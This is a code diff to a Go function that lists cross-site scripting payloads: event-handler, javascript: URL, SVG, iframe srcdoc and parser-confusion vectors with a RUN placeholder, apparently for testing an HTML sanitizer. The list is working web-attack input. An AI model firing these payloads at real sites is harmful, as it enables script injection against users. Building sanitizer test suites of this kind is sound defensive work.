@@ -41,7 +41,7 @@ func payloads() []string {
 		"<img src=x onerror=RUN>", `<img src="x" onerror="RUN"`, `<img/src="x"/onerror=RUN>`, "<img src=x onerror=&#112;arent['ran'](NUMBER)>", `<image href="x" onerror="RUN"/>`,
 		"<svg onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributeName=x to=0>",
 		`<svg><a href="javascript:RUN"><text>x</text></a></svg>`, `<a href="javascript:RUN">x</a>`, `<a href="&#106;avascript:RUN">x</a>`, `<a href="java&Tab;script:RUN">x</a>`,
-		"<body onload=RUN>", "<details open ontoggle=RUN>", "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN>", "<style onload=RUN></style>", "<link rel=stylesheet href=x onerror=RUN>",
+		"<body onpageshow=RUN>", "<iframe onload=RUN></iframe>", "<input type=image src=x onerror=RUN>", "<script src=x onerror=RUN></script>", "<object data=x onerror=RUN></object>", "<picture><img src=x onerror=RUN></picture>", "<svg><image href=x onerror=RUN></svg>",
 		`<iframe src="javascript:parent['RUN']"></iframe>`, `<iframe srcdoc="<script>parent.RUN</script>"></iframe>`,
 		`<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="RUN">`, `<noscript><p title="</noscript><script>RUN</script>">`,
 		`<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>`, `<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>`, `</text></g></svg><svg xmlns="http://www.w3.org/2000/svg"><script>RUN</script></svg>`,
